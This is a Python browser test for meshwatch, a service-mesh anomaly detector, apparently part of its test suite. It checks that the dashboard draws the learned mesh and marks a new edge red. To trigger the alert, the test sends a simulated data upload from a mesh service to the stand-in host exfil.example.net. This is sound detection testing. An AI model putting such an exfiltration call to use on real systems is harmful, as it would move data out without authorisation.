"""The page at / in a real headless chromium, against a meshwatch fed by real Envoys."""

from __future__ import annotations

import asyncio
import os
import shutil
import time
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from meshwatch.localmesh.launcher import LocalMesh
from tests.browser import Browser, require_chromium
from tests.conftest import Running, eventually
from tests.mesh_traffic import normal_traffic
from tests.runtime.test_envoy_mesh import TOPOLOGY

pytestmark = [pytest.mark.envoy, pytest.mark.browser]

TOKEN = "page-token"
REFRESH = 2.0
RED = "rgb(224,47,68)"
EXFIL = "default/sleep->external/exfil.example.net:"

# What the page has drawn: mesh nodes (not the namespace groups) and edges, with the style
# Cytoscape computed for them.
DRAWN = """
const cy = window.meshwatch && window.meshwatch.cy;
if (!cy) return null;
return {
  refreshes: window.meshwatch.refreshes,
  error: window.meshwatch.lastError,
  nodes: cy.nodes().filter(n => !n.data('isGroup')).map(n => ({id: n.id(), parent: n.data('parent')})),
  edges: cy.edges().map(e => ({id: e.id(), color: e.style('line-color').replace(/ /g, ''),
                               style: e.style('line-style')})),
};
"""
MIDPOINT = """
const e = window.meshwatch.cy.getElementById(arguments[0]);
const p = e.renderedMidpoint();
return [p.x, p.y];
"""


async def _api(mw: Running, path: str) -> Any:
    return await mw.get_json(path, token=TOKEN)


async def test_the_page_draws_the_mesh_and_turns_a_novel_edge_red_within_one_refresh(
    meshwatch: Any, tmp_path: Path
) -> None:
    require_chromium()
    mw: Running = await meshwatch(window=0.5, min_requests=3, mode="learn", api_token=TOKEN)
    stop = asyncio.Event()
    async with LocalMesh(
        TOPOLOGY, mw.service.als_port, tmp_path / "mesh", flush_seconds=0.2
    ) as mesh:
        traffic = asyncio.create_task(normal_traffic(mesh, lambda: not stop.is_set()))
        try:

            async def learned() -> bool:
                return bool((await _api(mw, "/api/v1/baseline"))["learning"]["windows"] >= 60)

            await eventually(learned, timeout=30, interval=0.5)
            async with (
                aiohttp.ClientSession() as s,
                s.post(
                    mw.http + "/api/v1/baseline/promote",
                    headers={"Authorization": f"Bearer {TOKEN}"},
                ) as r,
            ):
                assert r.status == 200, await r.text()

            browser = await Browser.start(tmp_path / "profile")
            try:
                await _check_page(browser, mw, mesh, tmp_path)
            finally:
                await browser.close()
        finally:
            stop.set()
            await traffic


async def _check_page(browser: Browser, mw: Running, mesh: LocalMesh, tmp_path: Path) -> None:
    # Without the token the page is refused; /?token= sets the session cookie and drops the
    # token from the address bar.
    await browser.get(mw.http + "/")
    assert "unauthorized" in await browser.text("body")
    await browser.get(f"{mw.http}/?token={TOKEN}&refresh={REFRESH:g}")
    assert (await browser.url()).endswith(f"/?refresh={REFRESH:g}")
    (cookie,) = await browser.cookies()
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"

    # The page draws exactly the rows the node-graph API serves.
    async def drawn_like_the_api() -> dict[str, Any] | None:
        page = await browser.script(DRAWN)
        api = await _api(mw, "/api/v1/nodegraph")
        if not page or page["refreshes"] < 1:
            return None
        page_nodes = {n["id"] for n in page["nodes"]}
        if page_nodes != {n["id"] for n in api["nodes"]}:
            return None
        if {e["id"] for e in page["edges"]} != {e["id"] for e in api["edges"]}:
            return None
        return page

    page = await eventually(drawn_like_the_api, timeout=20, interval=0.5)
    assert page["error"] is None
    parents = {n["id"]: n["parent"] for n in page["nodes"]}
    assert parents["default/sleep"] == parents["default/httpbin"] == "ns:default"
    assert parents["external/api.stripe.com"] == "ns:external"  # outside the mesh, apart
    assert "default/sleep->default/httpbin:8000" in {e["id"] for e in page["edges"]}
    assert all(e["color"] != RED for e in page["edges"])  # the learned mesh is not anomalous

    # A novel edge: the API flags it, and the page shows it red and dashed within one refresh.
    status, _ = await mesh.request("sleep", "exfil.example.net:8443", "/upload", "PUT", b"x" * 512)
    assert status == 200

    async def flagged() -> bool:
        edges = await _api(mw, "/api/v1/nodegraph/edges")
        return next(
            (e["id"] for e in edges if e["id"].startswith(EXFIL) and e["detail__status"] == "new"),
            None,
        )

    exfil = await eventually(flagged, timeout=15, interval=0.1)
    flagged_at = time.monotonic()

    async def red() -> dict[str, Any] | None:
        page = await browser.script(DRAWN)
        edge = next((e for e in page["edges"] if e["id"] == exfil), None)
        return edge if edge and edge["color"] == RED else None

    edge = await eventually(red, timeout=REFRESH + 5, interval=0.1)
    waited = time.monotonic() - flagged_at
    assert waited <= REFRESH + 1.0, f"the page took {waited:.1f}s to show it (refresh {REFRESH}s)"
    assert edge["style"] == "dashed"

    # Clicking the edge (a real mouse click on the canvas) shows its figures and reasons.
    x, y = await browser.script(MIDPOINT, exfil)
    await browser.click_in("graph", x, y)

    async def described() -> str | None:
        text = await browser.text("#facts")
        return text if "exfil.example.net" in text else None

    facts = await eventually(described, timeout=5, interval=0.2)
    assert "never seen while learning" in facts
    assert "spiffe://cluster.local/ns/default/sa/sleep" in facts
    assert "new" in facts

    await browser.screenshot(tmp_path / "page.png")
    if os.environ.get("MESHWATCH_KEEP_SCREENSHOT"):
        shutil.copy(tmp_path / "page.png", os.environ["MESHWATCH_KEEP_SCREENSHOT"])
    assert (tmp_path / "page.png").stat().st_size > 10_000
    severe = [m for m in await browser.console() if m["level"] == "SEVERE"]
    # The 401 of the first visit is expected; nothing else (a CSP violation would be here).
    assert all("401" in m["message"] for m in severe), severe
